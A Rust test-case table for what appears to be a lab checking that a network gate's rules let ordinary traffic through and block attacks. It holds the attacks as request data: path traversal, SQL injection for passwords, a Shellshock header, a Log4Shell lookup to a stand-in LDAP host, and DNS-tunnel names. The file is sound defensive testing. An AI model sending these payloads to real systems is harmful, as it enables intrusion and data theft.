//! The cases as data: who sends what, and what should become of it.

use std::time::Duration;

use super::dns::Kind;
use super::http::Request;

/// One line of the table.
#[derive(Clone, Copy, Debug)]
pub struct Case {
    pub sent: &'static str,
    pub sender: Sender,
    pub family: Family,
    pub traffic: Traffic,
    pub expect: Expect,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Family {
    V4,
    V6,
}

/// Who sends: each has addresses of its own.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Sender {
    User,
    Attacker,
    Scanner,
}

#[derive(Clone, Copy, Debug)]
pub enum Traffic {
    /// One connection, one request after the other, each awaited.
    Http(&'static [Request]),
    /// `GET /bytes/N`, the body compared byte by byte.
    Download {
        bytes: usize,
    },
    /// Connections open at the same time, a request on each.
    Connections {
        count: usize,
    },
    /// Queries from one socket, all at once.
    Dns {
        names: fn() -> Vec<String>,
        kind: Kind,
    },
    Ping {
        count: usize,
    },
    /// A bare SYN to each port, as scanners make them; the last port is open, the others closed.
    Scan {
        closed_ports: usize,
    },
}

/// What should happen, in units of the traffic: requests, queries, echoes, ports.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Expect {
    /// All are answered and the gate has nothing to say.
    Pass,
    /// The first `passing` are answered, none of the rest is, nor does it reach the server; `sid` is the reason.
    Block { sid: u32, passing: usize },
    /// As `Block`, but the rule counts first: some may be answered, the last is not.
    BlockInTheEnd { sid: u32 },
}

impl Expect {
    #[must_use]
    pub fn sid(self) -> Option<u32> {
        match self {
            Expect::Pass => None,
            Expect::Block { sid, .. } | Expect::BlockInTheEnd { sid } => Some(sid),
        }
    }
}

impl Case {
    /// How long the client waits for an answer: long for one that should come, short for one that should not.
    #[must_use]
    pub fn patience(&self) -> Duration {
        match self.expect {
            Expect::Pass => Duration::from_secs(3),
            _ => Duration::from_millis(700),
        }
    }
}

/// The sids of `rules/tidegate.rules` that the lab provokes.
mod sid {
    pub const PATH_TRAVERSAL: u32 = 3_300_001;
    pub const PATH_TRAVERSAL_ENCODED: u32 = 3_300_003;
    pub const SQL_INJECTION: u32 = 3_300_101;
    pub const SHELLSHOCK: u32 = 3_300_201;
    pub const LOG4SHELL: u32 = 3_300_204;
    pub const SYN_SCAN: u32 = 3_300_401;
    pub const DNS_TUNNEL: u32 = 3_300_501;
}

pub const HOME: Request = Request::get("/");
const LOGIN: Request = Request::post("/login", "user=ada&password=correct+horse&remember=on");
/// Innocent, though words and dots of attacks are in it.
const LOOKALIKES: &[Request] = &[
    Request::get("/search?q=trade+union+select+committee"),
    Request::get("/files/report..final.v2...txt"),
    Request::get("/etc/passwords-and-how-to-keep-them.html"),
    Request::get("/docs").with("User-Agent: Mozilla/5.0 (X11; Linux x86_64) { rv:1 }"),
];

const TRAVERSAL: Request = Request::get("/static/../../../../var/backups/shop.sql");
const TRAVERSAL_ENCODED: Request = Request::get("/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fprivate.key");
const SQL: Request = Request::get("/products?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20");
const SHELLSHOCK: Request = Request::get("/cgi-bin/status").with("User-Agent: () { ignored; }; /usr/bin/id");
const LOG4SHELL: Request = Request::get("/").with("X-Api-Version: ${jndi:ldap://203.0.113.7:1389/a}");

/// What a user does. Everything must pass.
pub const BENIGN: &[Case] = &[
    user("GET /", Family::V4, Traffic::Http(&[HOME])),
    user("GET /", Family::V6, Traffic::Http(&[HOME])),
    user("POST of a form", Family::V4, Traffic::Http(&[LOGIN])),
    user("3 requests on one connection", Family::V6, Traffic::Http(&[HOME, LOGIN, HOME])),
    user("requests that look like attacks", Family::V4, Traffic::Http(LOOKALIKES)),
    user("download of 2 MB", Family::V4, Traffic::Download { bytes: 2 << 20 }),
    user("download of 2 MB", Family::V6, Traffic::Download { bytes: 2 << 20 }),
    user("8 connections at once", Family::V4, Traffic::Connections { count: 8 }),
    user("8 DNS queries", Family::V4, Traffic::Dns { names: everyday_names, kind: Kind::A }),
    user("8 DNS queries", Family::V6, Traffic::Dns { names: everyday_names, kind: Kind::Aaaa }),
    user("3 pings", Family::V4, Traffic::Ping { count: 3 }),
    user("3 pings", Family::V6, Traffic::Ping { count: 3 }),
];

/// What an attacker does. Nothing may arrive.
pub const ATTACKS: &[Case] = &[
    attack("path traversal", Family::V4, &[TRAVERSAL], sid::PATH_TRAVERSAL),
    attack("path traversal", Family::V6, &[TRAVERSAL], sid::PATH_TRAVERSAL),
    attack("path traversal, encoded", Family::V4, &[TRAVERSAL_ENCODED], sid::PATH_TRAVERSAL_ENCODED),
    attack("SQL injection", Family::V4, &[SQL], sid::SQL_INJECTION),
    attack("shellshock in a header", Family::V4, &[SHELLSHOCK], sid::SHELLSHOCK),
    attack("log4shell in a header", Family::V4, &[LOG4SHELL], sid::LOG4SHELL),
    attack("log4shell in a header", Family::V6, &[LOG4SHELL], sid::LOG4SHELL),
    Case {
        sent: "good request, attack, good request",
        sender: Sender::Attacker,
        family: Family::V4,
        traffic: Traffic::Http(&[HOME, SHELLSHOCK, HOME]),
        expect: Expect::Block { sid: sid::SHELLSHOCK, passing: 1 },
    },
    Case {
        sent: "DNS tunnel, 12 queries",
        sender: Sender::Attacker,
        family: Family::V4,
        traffic: Traffic::Dns { names: tunnel_names, kind: Kind::Txt },
        expect: Expect::Block { sid: sid::DNS_TUNNEL, passing: 0 },
    },
    Case {
        sent: "SYN scan of 200 ports",
        sender: Sender::Scanner,
        family: Family::V4,
        traffic: Traffic::Scan { closed_ports: 199 },
        expect: Expect::BlockInTheEnd { sid: sid::SYN_SCAN },
    },
];

const fn user(sent: &'static str, family: Family, traffic: Traffic) -> Case {
    Case { sent, sender: Sender::User, family, traffic, expect: Expect::Pass }
}

const fn attack(sent: &'static str, family: Family, requests: &'static [Request], sid: u32) -> Case {
    let traffic = Traffic::Http(requests);
    Case { sent, sender: Sender::Attacker, family, traffic, expect: Expect::Block { sid, passing: 0 } }
}

fn everyday_names() -> Vec<String> {
    let hosts = ["www", "mail", "cdn", "api", "static", "login", "_dmarc", "a1b2c3.edge"];
    hosts.iter().map(|host| format!("{host}.shop.lab.test")).collect()
}

/// A file in pieces, hexadecimal in labels of 56 bytes.
fn tunnel_names() -> Vec<String> {
    let piece = |number: u64| format!("{:014x}", number.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 8);
    let label = |seed: u64| (0..4).map(|part| piece(seed.wrapping_add(part))).collect::<String>();
    (1..=12).map(|n: u64| format!("{}.{}.{}.t.lab.test", label(n), label(n << 8), label(n << 16))).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn users_pass_and_attackers_do_not() {
        assert!(BENIGN.iter().all(|case| case.sender == Sender::User && case.expect == Expect::Pass));
        assert!(ATTACKS.iter().all(|case| case.sender != Sender::User && case.expect.sid().is_some()));
        for family in [Family::V4, Family::V6] {
            assert!(BENIGN.iter().any(|case| case.family == family));
            assert!(ATTACKS.iter().any(|case| case.family == family));
        }
    }

    #[test]
    fn names_are_legal() {
        for name in everyday_names().iter().chain(&tunnel_names()) {
            assert!(name.len() < 254 && name.split('.').all(|label| (1..64).contains(&label.len())), "{name}");
        }
    }
}
